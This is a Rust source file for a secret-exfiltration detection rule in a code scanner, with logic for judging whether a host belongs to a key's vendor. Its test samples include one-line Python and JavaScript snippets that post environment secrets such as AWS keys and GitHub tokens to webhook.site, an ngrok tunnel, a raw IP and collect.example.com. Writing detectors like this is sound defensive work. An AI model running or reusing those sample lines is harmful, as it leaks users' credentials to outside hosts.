//! `theft-variable-exfil`: a secret from a variable reaches a host that is not its maker's.

use std::collections::BTreeSet;

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::collecting_host::Collector;
use crate::scan::operation::{Event, Origins};
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::scan::sending;
use crate::scan::vendor;

/// The rule.
pub static RULE: Rule = Rule {
    id: "theft-variable-exfil",
    title: "Sends a secret from the environment to a host that is not its maker's",
    severity: Severity::Blocker,
    confidence: Confidence::High,
    why: "A key in a variable is meant for one service; whoever else receives it acts in the name of its owner.",
    fix: "Send the key to its own service only.",
    references: &["CWE-200", "CWE-522", "OWASP-LLM02"],
    hits: &[
        Sample::File(
            "scripts/a.py",
            "import os, requests\nrequests.post('https://webhook.site/0', json={'k': os.environ['OPENAI_API_KEY']})\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os, requests\nrequests.post('http://198.51.100.7/in', data={'k': os.getenv('AWS_SECRET_ACCESS_KEY')})\n",
        ),
        Sample::File(
            "scripts/a.js",
            "fetch('https://demo.ngrok.io/in', { method: 'POST', body: process.env.GITHUB_TOKEN });\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os, requests\nrequests.post('https://collect.example.com', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n",
        ),
        Sample::File(
            "scripts/a.js",
            "fetch('https://collect.example.com', { method: 'POST', body: process.env.GITHUB_TOKEN + process.env.NPM_TOKEN });\n",
        ),
    ],
    misses: &[
        Sample::File(
            "scripts/a.py",
            "import os, requests\nkey = os.environ['DEMO_API_KEY']\nrequests.get('https://api.example.com', headers={'Authorization': key})\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.openai.com/v1/x', headers={'Authorization': key})\n",
        ),
        Sample::File(
            "a.sh",
            "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os, requests\nt = os.environ['TELEGRAM_BOT_TOKEN']\nrequests.post(f'https://api.telegram.org/bot{t}/sendMessage', data={'text': 'done'})\n",
        ),
        Sample::File(
            "scripts/a.js",
            "fetch('https://api.acme.example/v1', { headers: { 'x-key': process.env.ACME_API_KEY } });\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import os, requests\nbase = os.environ['API_BASE']\nrequests.post(base, headers={'x': os.environ['OPENAI_API_KEY']})\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    for sending in sending::all(unit) {
        if !sending.origins.has(Origins::VARIABLE)
            || sending.origins.has(Origins::SENSITIVE)
            || sending.origins.has(Origins::ENVIRONMENT)
        {
            continue;
        }
        let mut names = sending.variables();
        names.retain(|name| vendor::is_secret_name(name));
        let Some(name) = names.first() else { continue };
        // Whoever runs the name's servers reads it; no service asks for that.
        if sending.looks_up {
            reporter
                .raise_flow(sending.span, &sending.way)
                .message(format!(
                    "Sends the secret `{name}` in a name that is looked up"
                ));
            continue;
        }
        if let Some(line) = sending.line
            && is_publication(line)
            && !names.iter().all(|name| is_git_hosts(name))
        {
            reporter
                .raise_flow(sending.span, &sending.way)
                .message(format!(
                    "Publishes the secret `{name}` where others read it"
                ));
            continue;
        }
        if let Some(collector) = sending.collector {
            let own = match collector {
                Collector::ChatHook => {
                    // A bot's own token in its own chat.
                    let host = sending.host.as_deref().unwrap_or_default();
                    let vendor = vendor::of_variable(name);
                    // Whose bot it is, the code says.
                    vendor.map_or_else(
                        || sending.is_addressed_from_outside() || !is_login(name),
                        |vendor| vendor.owns(host),
                    ) || vendor::share_a_word(name, host)
                }
                // People's own machines have addresses without names.
                Collector::RawAddress
                | Collector::Tunnel
                | Collector::DynamicName
                | Collector::Onion
                | Collector::RequestBin
                | Collector::Shortener
                | Collector::Paste
                | Collector::FileDrop => sending
                    .host
                    .as_deref()
                    .is_some_and(|host| vendor::share_a_word(name, host)),
            };
            if !own {
                reporter
                    .raise_flow(sending.span, &sending.way)
                    .message(format!("Sends the secret `{name}` to {}", collector.word()));
            }
            continue;
        }
        // `ep-***.…` is no host yet.
        let Some(host) = sending.host.as_ref().filter(|host| host.contains('.')) else {
            continue;
        };
        if let Some(wallet) = names.iter().find(|name| is_wallet(name))
            && is_spelled(unit, &sending)
        {
            reporter
                .raise_flow(sending.span, &sending.way)
                .message(format!(
                    "Sends the key of a wallet, `{wallet}`, to `{host}`"
                ))
                .severity(Severity::Blocker);
            continue;
        }
        let foreign = names.iter().all(|name| {
            vendor::of_variable(name)
                .is_some_and(|vendor| !vendor.owns(host) && !vendor::share_a_word(name, host))
        });
        if !foreign {
            continue;
        }
        let makers: BTreeSet<&str> = names
            .iter()
            .filter_map(|name| vendor::of_variable(name))
            .filter_map(|vendor| vendor.hosts.first().copied())
            .collect();
        // A gateway in front of several makers speaks for the person; only a
        // look at it can tell. Three makers' keys at one stranger's is no such.
        let several = makers.len() >= 3 && vendor::of_host(host).is_none();
        // In an address it is no sign-in at a gateway, and logged on its way.
        let spelled = sending.in_address.has(Origins::VARIABLE) && vendor::of_host(host).is_none();
        let severity = if several || spelled {
            Severity::Blocker
        } else {
            Severity::Error
        };
        reporter
            .raise_flow(sending.span, &sending.way)
            .message(format!(
                "Sends the secret `{name}` to `{host}`, which is not its maker's"
            ))
            .severity(severity)
            .confidence(Confidence::Medium);
    }
}

/// Whether a variable holds what opens a wallet; nobody else ever needs it.
fn is_wallet(name: &str) -> bool {
    [
        "PRIVATE_KEY",
        "MNEMONIC",
        "SEED_PHRASE",
        "WALLET_KEY",
        "SECRET_PHRASE",
    ]
    .iter()
    .any(|word| name.contains(word))
        && ![
            "GITHUB",
            "APP_",
            "SSH",
            "JWT",
            "RSA",
            "PEM",
            "VAPID",
            "GPG",
            "SNOWFLAKE",
            "FIREBASE",
            "GOOGLE",
            "GCP",
        ]
        .iter()
        .any(|word| name.contains(word))
}

/// Whether the call itself names the value: what was made with the key, an
/// address or a signature, is no key.
fn is_spelled(unit: &Unit, sending: &sending::Sending<'_>) -> bool {
    let call = unit
        .text
        .get(sending.span.start..sending.span.end)
        .unwrap_or_default();
    let mut steps = sending.way.steps().iter();
    let taken = steps.find(|step| matches!(&step.event, Event::Variable(name) if is_wallet(name)));
    let Some(taken) = taken else { return false };
    if call.contains(
        unit.text
            .get(taken.span.start..taken.span.end)
            .unwrap_or("\0"),
    ) {
        return true;
    }
    let Some(Event::Assign(name)) = steps.next().map(|step| &step.event) else {
        return false;
    };
    call.split(|letter: char| !letter.is_alphanumeric() && letter != '_')
        .any(|word| word == name)
}

/// Whether a command line writes a text where others read it. Secrets of a
/// repository are made for secrets.
fn is_publication(line: &str) -> bool {
    let mut words = line.split_whitespace();
    let tool = words.next().unwrap_or_default();
    let about = words
        .find(|word| !word.starts_with('-'))
        .unwrap_or_default();
    matches!(tool, "gh" | "glab" | "hub")
        && matches!(
            about,
            "gist" | "issue" | "pr" | "release" | "mr" | "snippet"
        )
}

/// Whether a name is that of a key to something, and of no chat's own.
fn is_login(name: &str) -> bool {
    let small = name.to_ascii_lowercase();
    let chat = [
        "bot", "telegram", "tg_", "discord", "slack", "chat", "webhook", "notify",
    ];
    !chat.iter().any(|word| small.contains(word))
        && ["api", "secret", "private", "passw", "_key"]
            .iter()
            .any(|word| small.contains(word))
}

/// Whether the variable holds the key with which such a tool signs in.
fn is_git_hosts(name: &str) -> bool {
    name.starts_with("GH_") || name.starts_with("GITHUB_") || name.starts_with("GITLAB_")
}
